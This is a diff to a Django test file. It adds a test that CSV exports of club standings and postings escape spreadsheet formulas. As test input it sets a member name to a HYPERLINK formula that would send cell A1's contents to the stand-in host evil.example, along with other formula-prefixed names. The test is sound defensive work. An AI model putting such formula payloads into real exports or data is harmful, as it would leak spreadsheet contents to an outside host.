@@ -7,6 +7,8 @@ import io
 
 from django.urls import reverse
 
+from club.models import Table
+
 FUNDING = "001 L250–L251"
 
 
@@ -84,3 +86,25 @@ def test_csv_access(client, autumn, other_club):
     assert client.get(reverse("member-postings-csv", args=["vestbyen", autumn.anna.pk])).status_code == 404
     assert client.get(reverse("season-standings-csv", args=["vestbyen", autumn.season.pk])).status_code == 404
     assert client.get(reverse("season-standings-csv", args=["osterbro", autumn.season.pk])).status_code == 404
+
+
+def test_formula_cells_are_written_as_text(client, autumn):
+    # A member may call himself anything; a spreadsheet must not run it. Numbers stay numbers.
+    autumn.carl.name = '=HYPERLINK("http://evil.example/"&A1)'
+    autumn.carl.save()
+    autumn.bent.name = "@SUM(1+1)"
+    autumn.bent.save()
+    autumn.anna.name = "\tAnna"
+    autumn.anna.save()
+    Table.objects.update(name="+Bord 1")
+    client.force_login(autumn.anna.user)
+    standings = read_csv(client.get(reverse("season-standings-csv", args=["vestbyen", autumn.season.pk])))
+    assert standings[1:] == [
+        ['\'=HYPERLINK("http://evil.example/"&A1)', "39", "9.75"],
+        ["'@SUM(1+1)", "-15", "-3.75"],
+        ["'\tAnna", "-24", "-6.00"],
+    ]
+    client.force_login(autumn.bent.user)
+    postings = read_csv(client.get(reverse("member-postings-csv", args=["vestbyen", autumn.bent.pk])))
+    assert {row[2] for row in postings[1:]} == {"'+Bord 1"}
+    assert [row[-2:] for row in postings[1:3]] == [["-20", "-20"], ["-20", "-40"]]
